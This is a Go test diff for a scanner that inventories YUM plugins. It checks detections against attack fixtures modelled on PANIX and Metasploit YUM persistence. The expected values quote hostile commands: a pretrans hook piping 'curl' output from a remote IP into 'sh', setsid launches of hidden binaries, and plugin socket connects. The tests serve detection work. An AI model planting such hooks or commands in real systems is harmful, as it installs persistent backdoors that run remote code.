@@ -46,6 +46,13 @@ func TestYUM(t *testing.T) {
 				t.Errorf("%s: %s = %+v, want %+v", root, name, g, w)
 			}
 		}
+		if root == "yum" {
+			for _, r := range rows {
+				if r["name"] == "backdoor" && r["calls"] != "13 def:pretrans_hook os.system /usr/bin/curl -s http://203.0.113.9/x | sh" {
+					t.Errorf("backdoor calls: %q", r["calls"])
+				}
+			}
+		}
 	}
 }
 
@@ -176,6 +183,43 @@ func TestYUMBadAPIVersion(t *testing.T) {
 	for _, r := range rows {
 		if r["enabled"] != "0" || !strings.Contains(r["reason"], "yum runs no plugin: requires_api_version 'latest'") {
 			t.Errorf("%s: enabled=%s reason=%q", r["name"], r["enabled"], r["reason"])
+		}
+	}
+}
+
+// TestAttackFixtures: PANIX's YUM persistence and Metasploit's
+// yum_package_manager_persistence, as test/roots/panix-yum.expected.md and
+// msf-yum.expected.md explain each value.
+func TestAttackFixtures(t *testing.T) {
+	type want struct{ enabled, imported, hooks, reason, calls string }
+	mirror := "init_hook,postreposetup_hook,clean_hook"
+	cases := map[string]map[string]want{
+		"panix-yum": {
+			"yumcon": {"1", "1", "pretrans_hook", "", "11 def:pretrans_hook os.system setsid /usr/lib/yumcon 2>/dev/null & "},
+			"fastestmirror": {"1", "1", mirror, "",
+				"57 def:Probe.run socket.socket socket.AF_INET, socket.SOCK_STREAM\n60 def:Probe.run socket.connect {self.host}:80"},
+		},
+		"msf-yum": {
+			"fastestmirror": {"1", "1", mirror, "",
+				"6 import os.system setsid /usr/local/bin/Hq3vXk9 2>/dev/null & \n58 def:Probe.run socket.socket socket.AF_INET, socket.SOCK_STREAM\n61 def:Probe.run socket.connect {self.host}:80"},
+		},
+	}
+	for root, plugins := range cases {
+		rows, err := Rows(context.Background(), filepath.Join("../../../test/roots", root))
+		if err != nil {
+			t.Fatal(err)
+		}
+		if len(rows) != len(plugins) {
+			t.Errorf("%s: %d rows, want %d (fastestmirror.pye is not *.py)", root, len(rows), len(plugins))
+		}
+		for _, r := range rows {
+			g := want{r["enabled"], r["imported"], r["hooks"], r["reason"], r["calls"]}
+			if w, ok := plugins[r["name"]]; !ok || g != w {
+				t.Errorf("%s: %s:\n got %+v\nwant %+v", root, r["name"], g, w)
+			}
+			if r["sha256"] == "" || r["package"] != "" {
+				t.Errorf("%s: %s: provenance %s %q", root, r["name"], r["sha256"], r["package"])
+			}
 		}
 	}
 }
